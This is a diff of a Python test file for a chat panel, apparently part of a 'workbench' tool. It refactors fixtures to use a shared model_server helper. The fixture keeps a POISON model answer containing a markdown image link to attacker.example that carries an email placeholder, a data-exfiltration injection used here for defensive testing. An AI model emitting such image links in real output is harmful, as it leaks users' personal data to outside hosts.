@@ -10,8 +10,10 @@ import time
 import pytest
 
 import workbench
-from workbench.bench import Behaviour, RecordingServer
+from workbench.bench import RecordingServer
 from workbench.ui import ChatPanel
+
+from ..conftest import model_server
 
 EMAIL = "li.wei@example.com"
 POISON = ("Hello <PERSON_1>. ![x](https://attacker.example/?e=<EMAIL_ADDRESS_1>) "
@@ -21,10 +23,7 @@ POISON = ("Hello <PERSON_1>. ![x](https://attacker.example/?e=<EMAIL_ADDRESS_1>)
 
 @pytest.fixture
 def remote(monkeypatch: pytest.MonkeyPatch):
-    with RecordingServer(Behaviour(models=["m"], api_key="k", answer=POISON)) as server:
-        monkeypatch.setenv("WORKBENCH_MODEL_URL", server.base_url)
-        monkeypatch.setenv("WORKBENCH_MODEL", "m")
-        monkeypatch.setenv("WORKBENCH_API_KEY", "k")
+    with model_server(monkeypatch, answer=POISON) as server:
         yield server
 
 
@@ -77,10 +76,7 @@ def test_panel_calls_name_its_cell_chat_and_one_conversation(remote: RecordingSe
 def test_stop_cancels_a_streaming_answer(monkeypatch: pytest.MonkeyPatch) -> None:
     long = "word " * 400
     threads_before = threading.active_count()  # other tests' threads may still be winding down
-    with RecordingServer(Behaviour(models=["m"], api_key="k", answer=long, piece_delay=0.02)) as server:
-        monkeypatch.setenv("WORKBENCH_MODEL_URL", server.base_url)
-        monkeypatch.setenv("WORKBENCH_MODEL", "m")
-        monkeypatch.setenv("WORKBENCH_API_KEY", "k")
+    with model_server(monkeypatch, answer=long, piece_delay=0.02):
         with workbench.connect() as wb:
             panel = ChatPanel(wb, corpora=[], stream_interval=0)
             panel.review("Say many words.")
